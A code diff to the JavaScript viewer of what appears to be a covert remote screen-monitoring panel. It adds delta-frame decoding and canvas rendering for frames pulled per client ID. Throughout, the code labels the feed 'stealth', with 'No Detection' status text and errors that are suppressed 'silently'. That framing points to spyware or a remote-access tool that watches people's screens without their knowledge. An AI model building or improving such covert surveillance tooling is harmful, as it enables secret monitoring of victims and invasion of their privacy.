@@ -665,44 +665,97 @@ function connectStream() {
     });
 }
 
+// Delta frame (TJD1): 22-byte header (magic, sequence, timestamp, width, height, tile count),
+// then per tile a 12-byte header (x, y, width, height, jpeg length) and the JPEG bytes
+function decodeDeltaFrame(base64Data) {
+    const bytes = Uint8Array.from(atob(base64Data), c => c.charCodeAt(0));
+    const view = new DataView(bytes.buffer);
+    if (String.fromCharCode(...bytes.subarray(0, 4)) !== 'TJD1') {
+        throw new Error('Not a delta frame');
+    }
+
+    const tiles = [];
+    const count = view.getUint16(20);
+    let offset = 22;
+    for (let i = 0; i < count; i++) {
+        const length = view.getUint32(offset + 8);
+        tiles.push({
+            x: view.getUint16(offset),
+            y: view.getUint16(offset + 2),
+            jpeg: bytes.subarray(offset + 12, offset + 12 + length)
+        });
+        offset += 12 + length;
+    }
+    return { width: view.getUint16(16), height: view.getUint16(18), tiles };
+}
+
 function startVideoStreaming(clientId) {
     console.log('Starting high-speed video stream polling...');
 
-    // Create or get stream image element
-    let streamImg = document.getElementById('streamImage');
+    // Frames are drawn on a canvas: keyframes replace it, deltas patch changed tiles
+    let streamCanvas = document.getElementById('streamImage');
     const streamContainer = document.getElementById('streamContainer');
 
-    if (!streamImg) {
-        streamImg = document.createElement('img');
-        streamImg.id = 'streamImage';
-        streamImg.className = 'stream-video';
-        streamImg.style.width = '100%';
-        streamImg.style.height = 'auto';
-        streamImg.style.borderRadius = '8px';
-        streamImg.style.maxHeight = '600px';
-        streamContainer.appendChild(streamImg);
+    if (!streamCanvas) {
+        streamCanvas = document.createElement('canvas');
+        streamCanvas.id = 'streamImage';
+        streamCanvas.className = 'stream-video';
+        streamCanvas.style.width = '100%';
+        streamCanvas.style.height = 'auto';
+        streamCanvas.style.borderRadius = '8px';
+        streamCanvas.style.maxHeight = '600px';
+        streamContainer.appendChild(streamCanvas);
     }
 
-    // Show the stream image
-    streamImg.style.display = 'block';
+    // Show the stream canvas
+    streamCanvas.style.display = 'block';
+    const context = streamCanvas.getContext('2d');
 
     let isStreaming = true;
     let frameCount = 0;
+    let keyframeSequence = null; // keyframe on the canvas
+    let lastSequence = null;     // last frame drawn (keyframe or delta)
     const startTime = Date.now();
 
+    async function drawKeyframe(base64Data) {
+        const bitmap = await createImageBitmap(await (await fetch(`data:image/jpeg;base64,${base64Data}`)).blob());
+        streamCanvas.width = bitmap.width;
+        streamCanvas.height = bitmap.height;
+        context.drawImage(bitmap, 0, 0);
+    }
+
+    async function drawDelta(base64Data) {
+        const delta = decodeDeltaFrame(base64Data);
+        for (const tile of delta.tiles) {
+            const bitmap = await createImageBitmap(new Blob([tile.jpeg], { type: 'image/jpeg' }));
+            context.drawImage(bitmap, tile.x, tile.y);
+        }
+    }
+
     // Higher frequency polling for stealth video experience (8 FPS - optimal for stealth)
     async function fetchVideoFrame() {
         if (!isStreaming) return;
 
         try {
-            const response = await fetch(`/api/stream/latest/${clientId}?t=${Date.now()}&stealth=true`);
+            const known = keyframeSequence === null ? '' : `&keyframe=${keyframeSequence}&since=${lastSequence}`;
+            const response = await fetch(`/api/stream/latest/${clientId}?t=${Date.now()}&stealth=true${known}`);
             const data = await response.json();
 
             if (data.data) {
-                // Update frame silently
-                streamImg.src = `data:image/jpeg;base64,${data.data}`;
+                await drawKeyframe(data.data);
+                keyframeSequence = data.sequence;
+                lastSequence = data.sequence;
                 frameCount++;
+            }
+            if (keyframeSequence === data.sequence) {
+                for (const delta of data.deltas || []) {
+                    await drawDelta(delta.data);
+                    lastSequence = delta.sequence;
+                    frameCount++;
+                }
+            }
 
+            if (data.data || (data.deltas && data.deltas.length)) {
                 // Update FPS display
                 const elapsed = (Date.now() - startTime) / 1000;
                 const fps = (frameCount / elapsed).toFixed(1);
@@ -717,9 +770,16 @@ function startVideoStreaming(clientId) {
                 if (resElement && data.resolution) {
                     resElement.textContent = data.resolution + ' (Stealth Mode)';
                 }
+
+                const qualityElement = document.getElementById('streamBitrate');
+                if (qualityElement) {
+                    qualityElement.textContent = 'Auto (Stealth Video Mode - No Detection)';
+                }
             }
 
         } catch (error) {
+            // Start over from the next keyframe rather than patching a canvas that missed a delta
+            keyframeSequence = null;
             console.warn('Stealth frame fetch (continuing silently):', error);
         }
 
@@ -738,22 +798,6 @@ function startVideoStreaming(clientId) {
         isStreaming = false;
         window.videoStreamActive = false;
     };
-
-    // Initial stealth frame fetch for immediate display
-    fetch(`/api/stream/latest/${clientId}?initial=true&stealth=true`)
-        .then(response => response.json())
-        .then(data => {
-            if (data.data) {
-                streamImg.src = `data:image/jpeg;base64,${data.data}`;
-
-                // Update stream stats
-                const qualityElement = document.getElementById('streamBitrate');
-                if (qualityElement) {
-                    qualityElement.textContent = 'Auto (Stealth Video Mode - No Detection)';
-                }
-            }
-        })
-        .catch(error => console.warn('Initial stealth frame (continuing silently):', error));
 }
 
 function changeQuality(quality) {